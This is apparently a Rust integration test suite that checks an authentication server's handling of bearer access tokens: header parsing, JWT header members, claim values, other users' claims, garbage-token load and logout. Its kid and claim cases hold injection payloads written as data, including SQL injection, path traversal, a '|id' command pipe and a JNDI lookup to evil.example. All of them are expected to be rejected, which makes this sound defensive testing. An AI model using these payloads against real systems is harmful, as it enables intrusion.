//! 2E: access tokens at every endpoint that takes one. `tests/it/tokens` has more of each kind, on a client library.

use std::net::TcpListener;

use openssl::hash::MessageDigest;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use serde_json::json;

use super::forge::Forge;
use super::wire::{bare, bearer, request};
use super::{Case, LOGOUT, LOGOUT_ALL, ME, SESSIONS, Stage, case, each_engine, signatures};
use crate::support::claims;
use crate::tokens::{self, encode, part, token};

pub(super) const INVALID: &str = "401 invalid_token";
const MISSING: &str = "401 not_authenticated";
const SCHEME: &str = "401 invalid_auth_scheme";
pub(super) const KIND: &str = "400 invalid_token_type";
const EXPIRED: &str = "401 token_expired";

/// A name, a token, and what every endpoint answers.
pub(super) type Row = (&'static str, String, String, &'static str);

pub(super) fn row(id: &'static str, name: impl Into<String>, token: impl Into<String>, expected: &'static str) -> Row {
    (id, name.into(), token.into(), expected)
}

#[tokio::test]
async fn access_tokens() {
    each_engine(&[], &[], async |stage| {
        let pair = stage.account("canary.alice@example.com");
        let forge = Forge::new(stage, pair);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        for case in authorization(&forge) {
            stage.run(&case);
        }
        let mut rows = signatures::rows(&forge);
        rows.extend(headers(&forge, &listener));
        rows.extend(claim_values(&forge));
        rows.extend(other_users(stage, &forge));
        for (id, name, token, expected) in rows {
            for line in [format!("GET {ME}"), format!("GET {SESSIONS}"), format!("POST {LOGOUT_ALL}")] {
                // What is accepted is only read with.
                if expected != "200" || line.starts_with("GET") {
                    stage.run(&case(id, format!("{name} at {line}"), bearer(&line, &token), expected));
                }
            }
        }
        if listener.accept().is_ok() {
            stage.fault("E25: a key was fetched");
        }
        garbage(stage);
        stage.ask(&bearer(&format!("GET {ME}"), &forge.pair.access), 200);
        ended(stage, &forge);
    })
    .await;
}

/// The header, before there is a token in it.
fn authorization(forge: &Forge) -> Vec<Case> {
    let genuine = &forge.pair.access;
    let with = |lines: &str| request(&format!("GET {ME}"), lines, "");
    let value = |value: &str| with(&format!("Authorization: {value}\r\n"));
    let mut cases = vec![
        case("E02", "no header", with(""), MISSING),
        case("E02", "Bearer", value("Bearer"), MISSING),
        case("E02", "Bearer and a blank", value("Bearer "), MISSING),
        case("E02", "two blanks", value("Bearer  x y"), INVALID),
        case("E02", "bearer", value(&format!("bearer {genuine}")), "200"),
        case("E03", "no scheme", value(genuine), MISSING),
        case("E03", "Token", value(&format!("Token {genuine}")), SCHEME),
        case("E03", "Basic", value("Basic YTpi"), SCHEME),
        case("E03", "Bearer:", value(&format!("Bearer: {genuine}")), SCHEME),
        case("+E03", "Bearer Bearer", value(&format!("Bearer Bearer {genuine}")), INVALID),
        case("+E03", "Bearer=", value(&format!("Bearer={genuine}")), MISSING),
        case("+E03", "a scheme of 4 KiB", value(&format!("{} x", "B".repeat(4096))), SCHEME),
        case("+E03", "Digest", value("Digest username=\"evil\", realm=\"\", nonce=\"\""), SCHEME),
        case("+E03", "Negotiate", value("Negotiate oYGeMIGb"), SCHEME),
        case("E05", "a list", value(&format!("Bearer {genuine}, Bearer {genuine}")), INVALID),
        case("E06", "a tab for the blank", value(&format!("Bearer\t{genuine}")), MISSING),
        case("E06", "a blank behind", value(&format!("Bearer {genuine} ")), "200"),
        case("E06", "a tab within", value(&format!("Bearer {}\t{}", &genuine[..50], &genuine[50..])), INVALID),
        case("E08", "header and query", bearer(&format!("GET {ME}?access_token={genuine}"), genuine), "400"),
        case("+E08", "the query alone", bare(&format!("GET {ME}?access_token={genuine}")), "400"),
        case(
            "+E08",
            "two headers",
            with(&format!("Authorization: Bearer {genuine}\r\nAuthorization: Bearer {genuine}\r\n")),
            "400",
        ),
        case(
            "+E08",
            "a Basic one besides",
            with(&format!("Authorization: Basic YTpi\r\nauthorization: Bearer {genuine}\r\n")),
            "400",
        ),
        case(
            "+E08",
            "a cookie",
            with(&format!("Cookie: access_token={genuine}; Authorization=Bearer {genuine}\r\n")),
            MISSING,
        ),
        case(
            "+E08",
            "another header",
            with(&format!("X-Authorization: Bearer {genuine}\r\nProxy-Authorization: Bearer {genuine}\r\n")),
            MISSING,
        ),
        case("+E08", "a name like it", with(&format!("Authorization_: Bearer {genuine}\r\n")), MISSING),
        case("E09", "64 KiB", value(&format!("Bearer {}", "a".repeat(64 << 10))), "431"),
        case("E09", "12 KiB", value(&format!("Bearer {}", "a".repeat(12 << 10))), INVALID),
        case("+E09", "12 KiB of dots", value(&format!("Bearer {}", ".".repeat(12 << 10))), INVALID),
    ];
    for (name, bytes) in
        [("bytes above ASCII", &b"Bearer \xff\xfe.\x80.\x80"[..]), ("bytes above ASCII as a scheme", b"B\xe4rer x")]
    {
        let header = [b"Authorization: ".as_slice(), bytes, b"\r\n"].concat();
        cases.push(case("+E03", name, request(&format!("GET {ME}"), header, ""), INVALID));
    }
    cases
}

/// RFC 8725 3.10 and 3.11, RFC 7515 4: alg, typ and kid, once each, and nothing else.
fn headers(forge: &Forge, listener: &TcpListener) -> Vec<Row> {
    let url = format!("http://{}/keys", listener.local_addr().unwrap());
    let payload = part(&forge.pair.access, 1);
    let plain = forge.header("at+jwt");
    let mut rows = Vec::new();
    for (id, member) in [
        ("E25", format!(r#""jku":"{url}""#)),
        ("E25", format!(r#""x5u":"{url}""#)),
        ("E26", r#""x5c":["MIIB"]"#.to_owned()),
        ("E26", r#""x5t":"AAAA""#.to_owned()),
        ("+E26", r#""jwk":{"kty":"oct","k":"AAAA"}"#.to_owned()),
        ("E29", r#""crit":["exp"],"exp":1"#.to_owned()),
        ("E29", r#""crit":["b64"],"b64":true"#.to_owned()),
        ("E29", r#""crit":[]"#.to_owned()),
        ("E29", r#""crit":"exp""#.to_owned()),
        ("E29", r#""crit":["exp","exp"]"#.to_owned()),
        ("E30", r#""b64":false"#.to_owned()),
        ("E30", r#""crit":["b64"],"b64":false"#.to_owned()),
        ("E32", r#""alg":"none""#.to_owned()),
        ("+E32", r#""\u0061lg":"none""#.to_owned()),
        ("+E32", r#""kid":"other""#.to_owned()),
        ("+E32", r#""zip":"DEF""#.to_owned()),
        ("+E32", r#""cty":"JWT""#.to_owned()),
        ("+E32", r#""":1"#.to_owned()),
    ] {
        let behind = plain.replacen('}', &format!(",{member}}}"), 1);
        let before = plain.replacen('{', &format!("{{{member},"), 1);
        rows.push(row(id, format!("{member} behind"), forge.under(behind), INVALID));
        rows.push(row(id, format!("{member} before"), forge.under(before), INVALID));
    }
    let kids = [
        ("E22", r#""""#),
        ("E22", r#""unknown""#),
        ("E22", "1"),
        ("E22", "null"),
        ("E28", r#""' UNION SELECT 'x'--""#),
        ("+E28", r#""../../../../dev/null""#),
        ("+E28", r#""' OR '1'='1""#),
        ("+E28", r#""|id""#),
        ("+E28", r#""${jndi:ldap://evil.example}""#),
        ("+E28", r#""%s%n""#),
        ("+E28", r#""*""#),
        ("+E28", r#""\u0000""#),
        ("+E22", r#"["a"]"#),
        ("+E22", "true"),
    ];
    for (id, kid) in kids {
        let header = format!(r#"{{"alg":"RS256","typ":"at+jwt","kid":{kid}}}"#);
        rows.push(row(id, format!("kid {kid}"), forge.under(header), INVALID));
    }
    rows.push(row("E22", "no kid", forge.under(r#"{"alg":"RS256","typ":"at+jwt"}"#), INVALID));
    let long = forge.under(format!(r#"{{"alg":"RS256","typ":"at+jwt","kid":"{}"}}"#, "k".repeat(4096)));
    rows.push(row("+E22", "a kid of 4 KiB", long, INVALID));
    for (name, header) in [
        ("a byte order mark", format!("\u{feff}{plain}").into_bytes()),
        ("blanks before", format!("  {plain}").into_bytes()),
        ("blanks behind", format!("{plain}\n").into_bytes()),
        ("invalid UTF-8", [&plain.as_bytes()[..8], b"\xff", &plain.as_bytes()[8..]].concat()),
        ("a list", format!("[{plain}]").into_bytes()),
        ("a text", b"\"RS256\"".to_vec()),
        ("nothing", Vec::new()),
        ("NUL behind", format!("{plain}\0").into_bytes()),
        ("2,000 lists", format!("{}{}", "[".repeat(2000), "]".repeat(2000)).into_bytes()),
        ("binary", vec![0; 64]),
    ] {
        rows.push(row("E35", format!("header: {name}"), forge.under(header), INVALID));
    }
    for (typ, expected) in [
        ("JWT", INVALID),
        ("at+JWT", "200"),
        ("AT+jwt", "200"),
        ("application/at+jwt", "200"),
        ("application/AT+JWT", "200"),
        ("dpop+jwt", INVALID),
        ("logout+jwt", INVALID),
        ("id+jwt", INVALID),
        ("", INVALID),
        ("at+jwt ", INVALID),
        ("application/application/at+jwt", INVALID),
        ("refresh+jwt", KIND),
    ] {
        rows.push(row("E36", format!("typ {typ:?}"), forge.under(forge.header(typ)), expected));
    }
    let absent = format!(r#"{{"alg":"RS256","kid":"{}"}}"#, forge.kid);
    rows.push(row("E36", "typ absent", forge.under(absent), INVALID));
    let stranger = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
    let theirs = token(&plain, &payload, |input| tokens::signature(&stranger, MessageDigest::sha256(), input));
    rows.push(row("E45", "another deployment's key under the same kid", theirs, INVALID));
    rows
}

/// RFC 7519 4.1, RFC 8725 3.8 to 3.10, RFC 9068 4.
fn claim_values(forge: &Forge) -> Vec<Row> {
    let now = forge.claim("iat").as_i64().unwrap();
    let issuer = forge.claim("iss").as_str().unwrap().to_owned();
    let mut rows = Vec::new();
    let mut add = |id, name: &str, json: Option<&str>, expected| {
        let shown = json.map_or_else(|| "missing".to_owned(), |json| format!("{json:.40}"));
        rows.push(row(id, format!("{name} {shown}"), forge.access(name, json), expected));
    };
    for (json, expected) in [
        (r#""9999999999""#, INVALID),
        ("9999999999.5", INVALID),
        ("-1", INVALID),
        ("2147483648", "200"),
        ("8589934593", INVALID),
        ("9223372036854775807", INVALID),
        ("9223372036854775808", INVALID),
        ("18446744073709551616", INVALID),
        ("1e300", INVALID),
        ("1e999", INVALID),
        ("NaN", INVALID),
        ("null", INVALID),
        ("[]", INVALID),
        ("-9223372036854775808", INVALID),
        ("-0", INVALID),
    ] {
        add("E38", "exp", Some(json), expected);
    }
    add("E38", "exp", None, INVALID);
    add("E38", "exp", Some(&(now - 1000).to_string()), EXPIRED);
    add("E38", "exp", Some("0"), EXPIRED);
    add("E39", "nbf", Some(&(now + 3600).to_string()), INVALID);
    add("E39", "iat", Some(&(now + 3600).to_string()), INVALID);
    add("+E39", "iat", Some("1e300"), INVALID);
    add("+E39", "iat", None, INVALID);
    add("+E39", "nbf", Some("18446744073709551615"), INVALID);
    add("+E39", "nbf", Some("-1"), INVALID);
    for json in [
        r#""https://evil.example""#.to_owned(),
        format!("\"{issuer}/\""),
        format!("\"{}\"", issuer.to_uppercase()),
        format!("[\"{issuer}\"]"),
        "null".to_owned(),
        format!("\"{issuer}\\u0000\""),
    ] {
        add("E40", "iss", Some(&json), INVALID);
        add("+E40", "aud", Some(&json), if json.starts_with('[') { "200" } else { INVALID });
    }
    add("E40", "iss", None, INVALID);
    add("+E40", "aud", Some("[]"), INVALID);
    add("+E40", "aud", Some("[1,null,{}]"), INVALID);
    add("+E40", "aud", None, INVALID);
    for json in ["1", "null", r#""""#, r#""x""#, r#""' OR 1=1--""#, "[]", r#""00000000-0000-0000-0000-000000000000""#] {
        add("E42", "sub", Some(json), INVALID);
        add(
            "E43",
            "sid",
            Some(json),
            if json.contains("0000") { "401 invalid_token|404 user_not_found" } else { INVALID },
        );
    }
    add("E42", "sub", None, INVALID);
    add("E43", "sid", None, INVALID);
    for json in ["0", "-1", "1.0", r#""1""#, "null", "9223372036854775808", "1e300", r#"{"$gt":0}"#] {
        add("+E42", "user_id", Some(json), INVALID);
    }
    add("+E42", "user_id", None, INVALID);
    add("+E42", "user_id", Some("9223372036854775807"), "404 user_not_found");
    add("+E42", "type", Some(r#""refresh""#), KIND);
    add("+E42", "type", Some("1"), KIND);
    add("+E42", "type", None, KIND);
    add("E33", "exp\":1,\"exp", Some("9999999999"), INVALID);
    add("E33", "x\":1,\"sub\":\"x\",\"y", Some("1"), INVALID);
    for (name, payload) in [
        ("a list", "[]"),
        ("nothing", ""),
        ("{}", "{}"),
        ("a text", "\"a\""),
        ("half", "{\"sub\":"),
        ("4,000 lists", &"[".repeat(4000)),
    ] {
        rows.push(row("+E33", format!("payload: {name}"), forge.sign(forge.header("at+jwt"), payload), INVALID));
    }
    rows
}

/// Claims that are well formed and belong to somebody else.
fn other_users(stage: &mut Stage, forge: &Forge) -> Vec<Row> {
    let bob = stage.account("canary.bob@example.com");
    let bobs = claims(&bob.access);
    let mut rows = Vec::new();
    for name in ["sub", "sid", "user_id"] {
        let token = forge.access(name, Some(&bobs[name].to_string()));
        rows.push(row("E43", format!("{name} of another user"), token, "401 invalid_token|404 user_not_found"));
    }
    // E48: there is one scope today, and no endpoint asks for another.
    let wider = forge.access("scope", Some(&json!("account admin openid").to_string()));
    rows.push(row("+E48", "a wider scope, which nobody can sign", wider, "200"));
    rows
}

/// E49: garbage costs no database and little else.
fn garbage(stage: &mut Stage) {
    let address = stage.address;
    let asked = std::time::Instant::now();
    std::thread::scope(|scope| {
        for thread in 0..4 {
            scope.spawn(move || {
                for at in 0..250 {
                    let token = format!(
                        "{}.{}.{}",
                        encode(format!("{{\"a\":{thread}}}")),
                        encode(at.to_string()),
                        encode([0; 256])
                    );
                    super::wire::exchange(address, &bearer(&format!("GET {ME}"), &token), 1);
                }
            });
        }
    });
    if asked.elapsed() > super::wire::PATIENCE {
        stage.fault(&format!("E49: 1,000 garbage tokens took {:?}", asked.elapsed()));
    }
    for fault in stage.health() {
        stage.fault(&format!("E49: {fault}"));
    }
}

/// E46: what ends a session ends its access tokens.
fn ended(stage: &mut Stage, forge: &Forge) {
    let first = stage.sign_in("canary.alice@example.com");
    let second = stage.sign_in("canary.alice@example.com");
    let me = |token: &str| bearer(&format!("GET {ME}"), token);
    stage.run(&case("E46", "log out", bearer(&format!("POST {LOGOUT}"), &first.refresh), "204"));
    stage.run(&case("E46", "after logout", me(&first.access), INVALID));
    stage.run(&case("E46", "another session goes on", me(&second.access), "200"));
    stage.run(&case("E46", "log out everywhere", bearer(&format!("POST {LOGOUT_ALL}"), &second.access), "204"));
    for token in [&first.access, &second.access, &forge.pair.access] {
        stage.run(&case("E46", "after logout-all", me(token), INVALID));
        stage.run(&case("E46", "logout-all after logout-all", bearer(&format!("POST {LOGOUT_ALL}"), token), INVALID));
    }
}
